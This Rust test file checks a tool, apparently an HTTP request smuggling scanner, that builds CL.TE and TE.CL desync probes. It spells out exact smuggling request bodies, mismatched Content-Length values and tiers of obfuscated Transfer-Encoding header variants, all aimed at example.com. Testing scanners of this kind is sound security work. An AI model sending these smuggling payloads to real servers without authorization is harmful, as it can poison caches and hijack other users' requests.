use request_smuggler::args::{effective_headers, target_port};
use request_smuggler::structs::{AttackKind, AttackType, Config, Headers};
use request_smuggler::utils::{generate_requests, payloads, unescape_request, with_payload};

fn config(amount: &str) -> Config {
    let mut headers = Headers::new();
    headers.insert(String::from("Host"), String::from("example.com"));
    Config {
        url: String::from("http://example.com/a"),
        host: String::from("example.com"),
        path: String::from("/a"),
        method: String::from("POST"),
        https: false,
        port: 80,
        headers,
        attack_types: vec![AttackType::ClTeTime, AttackType::TeClTime],
        verify: 2,
        verbose: 0,
        amount_of_payloads: String::from(amount),
        file: String::new(),
    }
}

const HEAD: &str = "POST /a HTTP/1.1\r\nHost: example.com\r\n";

fn body_after_blank(req: &str) -> &str {
    let at = req.find("\r\n\r\n").unwrap();
    &req[at + 4..]
}

fn declared(req: &str) -> usize {
    let at = req.find("Content-Length: ").unwrap() + 16;
    let end = req[at..].find("\r\n").unwrap();
    req[at..at + end].parse().unwrap()
}

#[test]
fn config_print_lists_headers() {
    let c = config("low");
    assert_eq!(c.print(), HEAD);
    assert_eq!(c.custom_print("GET", "/x"), "GET /x HTTP/1.1\r\nHost: example.com\r\n");
}

#[test]
fn baseline_request_is_honest() {
    let r = generate_requests(AttackType::ClTe, &config("low"));
    assert_eq!(
        r,
        format!("{}Content-Length: 11\r\nTransfer-Encoding: chunked\r\n\r\n1\r\nA\r\n0\r\n\r\n", HEAD)
    );
    assert_eq!(body_after_blank(&r).len(), declared(&r));
}

#[test]
fn cl_te_time_declares_seven_bytes_too_few() {
    let r = generate_requests(AttackType::ClTeTime, &config("low"));
    assert_eq!(declared(&r), 4);
    assert_eq!(body_after_blank(&r).len(), declared(&r) + 7);
}

#[test]
fn te_cl_time_adds_one_byte_after_the_chunks() {
    let r = generate_requests(AttackType::TeClTime, &config("low"));
    assert_eq!(declared(&r), 12);
    assert_eq!(body_after_blank(&r), "1\r\nA\r\n0\r\n\r\nA");
}

#[test]
fn cl_te_method_smuggles_a_g() {
    let r = generate_requests(AttackType::ClTeMethod, &config("low"));
    assert!(r.ends_with("Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG"));
}

#[test]
fn te_cl_method_sizes_its_chunk_in_hex() {
    let r = generate_requests(AttackType::TeClMethod, &config("low"));
    let body = body_after_blank(&r);
    let payload = format!(
        "GGET /a HTTP/1.1\r\nHost: example.com\r\nAccept: */*\r\nContent-Length: 9\r\nUser-Agent: {}\r\nAccept-Encoding: gzip\r\n\r\nx=",
        request_smuggler::utils::USER_AGENT
    );
    let hex = format!("{:x}", payload.len());
    assert_eq!(body, format!("{}\r\n{}\r\n0\r\n\r\n", hex, payload));
    assert_eq!(declared(&r), hex.len() + 2);
}

#[test]
fn cl_te_path_declares_its_whole_body() {
    let r = generate_requests(AttackType::ClTePath, &config("low"));
    let body = body_after_blank(&r);
    assert!(body.starts_with("0\r\n\r\nGET /so404mething HTTP/1.1\r\nHost: example.com\r\n"));
    assert_eq!(declared(&r), body.len());
}

#[test]
fn te_cl_path_smuggles_missing_path() {
    let r = generate_requests(AttackType::TeClPath, &config("low"));
    let body = body_after_blank(&r);
    assert!(body.contains("\r\nGET /so404mething HTTP/1.1\r\n"));
    assert!(body.ends_with("x=\r\n0\r\n\r\n"));
}

#[test]
fn payload_tiers_are_nested() {
    let low = payloads(&config("low"));
    let medium = payloads(&config("medium"));
    let all = payloads(&config("all"));
    assert_eq!(low.len(), 14);
    assert_eq!(medium.len(), 25);
    assert_eq!(all.len(), 36);
    assert_eq!(&medium[..14], &low[..]);
    assert_eq!(&all[..25], &medium[..]);
    assert_eq!(low[0], "Transfer-Encoding: chunked");
    assert_eq!(all[35], "Transfer_Encoding: chunked");
    assert_eq!(payloads(&config("other")).len(), 14);
}

#[test]
fn payload_replaces_the_chunked_header() {
    let r = with_payload("A\r\nTransfer-Encoding: chunked\r\nB", "Transfer-Encoding:\tchunked");
    assert_eq!(r, "A\r\nTransfer-Encoding:\tchunked\r\nB");
    let twice = with_payload("Transfer-Encoding: chunkedTransfer-Encoding: chunked", "x");
    assert_eq!(twice, "xx");
}

#[test]
fn unescape_turns_escapes_into_bytes() {
    let r = unescape_request("GET / HTTP/1.1\\r\\n\nHost: a\\r\\n\\r\\n\tx\\t");
    assert_eq!(r, "GET / HTTP/1.1\r\nHost: a\r\n\r\n\tx\t");
}

#[test]
fn attack_types_by_name_and_kind() {
    assert_eq!(AttackType::from_name("CLTETIME"), Some(AttackType::ClTeTime));
    assert_eq!(AttackType::from_name("TeClNotfound"), Some(AttackType::TeClPath));
    assert_eq!(AttackType::from_name("clte"), None);
    assert_eq!(AttackType::ClTeTime.kind(), AttackKind::Time);
    assert_eq!(AttackType::TeClMethod.kind(), AttackKind::Method);
    assert_eq!(AttackType::ClTePath.kind(), AttackKind::Path);
    assert_eq!(AttackType::ClTe.kind(), AttackKind::Undefined);
    assert_eq!(AttackType::TeClPath.name(), "TeClPath");
}

#[test]
fn defaults_fill_missing_headers() {
    let mut h = Headers::new();
    h.insert(String::from("Accept-Encoding"), String::from("br"));
    h.insert(String::from("Host"), String::from("other"));
    let r = effective_headers(h, "example.com");
    let names: Vec<&str> = (0..r.len()).map(|i| r.name_at(i).as_str()).collect();
    assert_eq!(names, vec!["Accept-Encoding", "Host", "User-Agent", "Accept"]);
    assert_eq!(r.get("Accept-Encoding").unwrap(), "br");
    assert_eq!(r.get("Host").unwrap(), "other");
    assert_eq!(r.get("Accept").unwrap(), "*/*");
    let d = effective_headers(Headers::new(), "example.com");
    assert_eq!(d.get("Host").unwrap(), "example.com");
    assert_eq!(d.get("Accept-Encoding").unwrap(), "gzip");
    assert_eq!(d.len(), 4);
    assert_eq!(target_port(true, None), 443);
    assert_eq!(target_port(false, None), 80);
    assert_eq!(target_port(true, Some(8443)), 8443);
}
